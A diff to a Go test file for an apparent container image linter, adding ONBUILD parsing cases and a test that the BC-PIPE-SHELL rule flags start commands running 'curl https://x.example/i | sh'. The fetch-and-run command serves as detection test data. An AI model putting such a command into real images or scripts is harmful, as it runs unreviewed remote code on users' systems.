@@ -38,6 +38,8 @@ func TestSteps(t *testing.T) {
 		{"kaniko RUN exec form", `RUN ["/x", "a b", "it's"]`, Step{Keyword: "RUN", Text: `/x 'a b' 'it'\''s'`}},
 		{"kaniko RUN of a shell", `RUN bash -c "make"`, Step{Keyword: "RUN", Text: `bash -c "make"`}},
 		{"RUN with mounts", "RUN --mount=type=secret,id=x --network=none make", Step{Keyword: "RUN", Text: "make", Flags: []string{"--mount=type=secret,id=x", "--network=none"}}},
+		{"for images built on it", "ONBUILD RUN make", Step{Keyword: "RUN", Text: "make", OnBuild: true}},
+		{"for images built on it, docker", "/bin/sh -c #(nop)  ONBUILD COPY . /app", Step{Keyword: "COPY", Text: ". /app", OnBuild: true}},
 		{"windows", `cmd /S /C dir`, Step{Keyword: "RUN", Text: `cmd /S /C dir`, Shell: "windows"}},
 		{"bazel", "bazel build ...", Step{Text: "bazel build ..."}},
 		{"debuerreotype", "# debian.sh --arch 'amd64' out/ 'bookworm'", Step{Text: "# debian.sh --arch 'amd64' out/ 'bookworm'"}},
@@ -88,6 +90,25 @@ func TestConfigurationWithoutHistory(t *testing.T) {
 	want := []string{"BC-SECRET-ENV ENV DB_PASSWORD=***", "BC-SECRET-LABEL LABEL a.token=***", "BC-EXPOSE-SSH EXPOSE 22/tcp", "BC-VOLUME-HOST VOLUME /etc"}
 	if d := cmp.Diff(want, got); d != "" {
 		t.Error(d)
+	}
+}
+
+// What a container starts with is looked at like what the build ran.
+func TestStartCommands(t *testing.T) {
+	for _, in := range []string{
+		`{"config":{"User":"app","Healthcheck":{"Test":["CMD","x"]},"Cmd":["sh","-c","curl https://x.example/i | sh"]}}`,
+		`{"config":{"User":"app","Healthcheck":{"Test":["CMD","x"]}},"history":[{"created_by":"CMD [\"sh\" \"-c\" \"curl https://x.example/i | sh\"]"}]}`,
+		`{"config":{"User":"app","Healthcheck":{"Test":["CMD","x"]}},"history":[{"created_by":"ENTRYPOINT curl https://x.example/i | sh"}]}`,
+		`{"config":{"User":"app","Healthcheck":{"Test":["CMD","x"]}},"history":[{"created_by":"ONBUILD RUN curl https://x.example/i | sh"}]}`,
+	} {
+		img, err := ParseImage([]byte(in))
+		if err != nil {
+			t.Fatal(err)
+		}
+		f := Check(img).Findings
+		if len(f) != 1 || f[0].RuleID != "BC-PIPE-SHELL" || !strings.Contains(f[0].Instruction, "| sh") {
+			t.Errorf("%s: %+v", in, f)
+		}
 	}
 }
 
